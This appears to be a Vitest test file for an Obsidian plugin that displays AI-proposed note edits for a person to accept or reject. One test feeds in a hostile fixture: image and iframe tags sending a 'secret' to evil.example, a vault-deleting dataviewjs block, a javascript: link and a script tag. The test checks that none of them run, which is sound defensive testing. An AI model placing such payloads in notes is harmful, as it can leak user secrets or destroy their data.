// @vitest-environment jsdom
/** Edit blocks in notes, as Obsidian hands them over. */
import { beforeEach, expect, it, vi } from "vitest";
import { findings } from "./elements";

vi.mock("obsidian", async () => {
  const { MarkdownRenderer } = await import("./renderer");
  class Component {
    private readonly ends: (() => void)[] = [];
    load() {}
    register(work: () => void) {
      this.ends.push(work);
    }
    unload() {
      for (const work of this.ends) work();
    }
  }
  class TFile {
    constructor(readonly path: string) {}
  }
  return { Component, MarkdownRenderer, Notice: class { constructor(text: string) { notices.push(text); } }, TFile, MarkdownRenderChild: Component, MarkdownView: class {}, setIcon: () => undefined, getIcon: () => null };
});
const notices: string[] = [];
const { TFile } = await import("obsidian");
const { findBlocks, parseBlock, registerBlocks, withoutBanner } = await import("../src/blocks");
const { Decisions } = await import("../src/decisions");
const { Editors } = await import("../src/editors");

const sent: [string, unknown][] = [];
const files = new Map([["New.md", "---\ntag: x\n---\n```ai-new-note\nby Claude\n```\n#ai_edit\n\n# New\n\n$$ stays\n"]]);
const trashed: string[] = [];
const drawers = new Map<string, (source: string, element: HTMLElement, context: object) => void>();
const app = {
  vault: { getAbstractFileByPath: (path: string) => new TFile(...([path] as unknown as [])), process: async (file: { path: string }, work: (text: string) => string) => void files.set(file.path, work(files.get(file.path)!)) },
  workspace: { getLeavesOfType: () => [] },
  fileManager: { trashFile: async ({ path }: { path: string }) => void trashed.push(path) },
};
const editors = new Editors(app as never);
const connection = { client: { raw: async (_: string, path: string, { body }: { body: unknown }) => void sent.push([path, body]) } };
const plugin = {
  app,
  editors,
  decisions: new Decisions(editors, connection as never, { hunksOf: () => [], loadBlocks: async () => undefined } as never),
  host: { app: {}, href: () => undefined, open: () => undefined },
  registerMarkdownCodeBlockProcessor: (name: string, draw: never) => void drawers.set(name, draw),
};
registerBlocks(plugin as never);

let child: { unload(): void } | undefined;
function shown(source: string, kind = "ai-edit"): HTMLElement {
  const root = document.body.appendChild(document.createElement("div"));
  drawers.get(kind)!(source, root, { sourcePath: kind === "ai-edit" ? "Garden.md" : "New.md", addChild: (made: typeof child) => (child = made) });
  return root;
}

beforeEach(() => {
  document.body.replaceChildren();
  sent.length = 0;
});

it("draws both texts as Markdown with their badge, and decides at the server", async () => {
  const root = shown('{"id":"c4-1","type":"replace","before":"two **cans**\\n","after":"- one can\\n"}');

  expect(root.querySelector(".ai-edit-badge-replace")?.textContent).toBe("[~] Replace");
  await vi.waitFor(() => expect(root.querySelector(".ai-edit-before strong")?.textContent).toBe("cans"));
  expect(root.querySelector(".ai-edit-after li")?.textContent).toBe("one can");
  expect(await findings()).toEqual([]);
  root.querySelector<HTMLElement>(".ai-edit-accept")!.click();
  await vi.waitFor(() => expect(sent).toEqual([["/blocks/accept", { path: "Garden.md", ids: ["c4-1"] }]]));
  child!.unload();
  expect(root.querySelector(".ai-edit-before")?.childElementCount).toBe(0);
});

it.each([["add", ["ai-edit-after"]], ["delete", ["ai-edit-before"]]])("of %s shows the one text that there is", (type, sides) => {
  const root = shown(JSON.stringify({ id: "1", type, before: "b", after: "a" }));

  expect([...root.querySelectorAll(".ai-edit-before, .ai-edit-after")].map((side) => side.className)).toEqual(sides);
});

it.each(["", "{", "null", "[]", '{"id":1}', '{"id":"a","type":"move"}', '{"id":"a","type":"add","after":{"x":1}}', '{"id":"","type":"add"}'])("says that %j is no edit block", (source) => {
  expect(parseBlock(source)).toBeUndefined();
  expect(shown(source).textContent).toBe("Invalid edit block");
});

it("loads nothing and runs nothing of what an agent proposes", async () => {
  const hostile = "![x](https://evil.example/?q=secret) <img src=https://evil.example/y> <iframe src=https://evil.example></iframe>\n\n![[https://evil.example/z.png]]\n\n```dataviewjs\napp.vault.delete()\n```\n\n[x](javascript:1) <script>window.hurt = 1</script>";
  const root = shown(JSON.stringify({ id: "1", type: "replace", before: hostile, after: hostile }));
  await vi.waitFor(() => expect(root.querySelector(".ai-edit-after")?.textContent).toContain("app.vault.delete()"));

  expect(root.querySelectorAll("img, iframe, script, video, audio, object, embed, link, style").length).toBe(0);
  expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((address) => /javascript/.test(address ?? ""))).toEqual([]);
  expect(root.querySelector(".ai-edit-after code")?.textContent).toContain("app.vault.delete()");
});

it("keeps a new note without its banner, and every other byte of it", async () => {
  shown("by Claude", "ai-new-note").querySelector<HTMLElement>(".ai-edit-accept")!.click();
  await vi.waitFor(() => expect(files.get("New.md")).toBe("---\ntag: x\n---\n# New\n\n$$ stays\n"));
  expect(withoutBanner("# none\n")).toBeUndefined();
});

it("moves a rejected new note to the trash, and not out of reach", async () => {
  shown("by Claude", "ai-new-note").querySelector<HTMLElement>(".ai-edit-reject")!.click();
  await vi.waitFor(() => expect(trashed).toEqual(["New.md"]));
});

it("finds blocks in a note by their ids, whatever else is fenced there", () => {
  const block = '````ai-edit\n{"id":"b-2","type":"add","before":"","after":"```\\n"}\n````\n#ai_edit\n';
  const made = '```ai-edit\n{ "id": "by hand",\n  "type": "delete", "before": "x", "after": "" }\n```\n';
  const text = `# A\n\n\`\`\`js\n"id":"b-2"\n\`\`\`\n${block}\nBetween.\n${made}`;

  const found = findBlocks(text);
  expect([...found].map(([id, { from, to }]) => [id, text.slice(from, to)])).toEqual([["b-2", block], ["by hand", made]]);
});
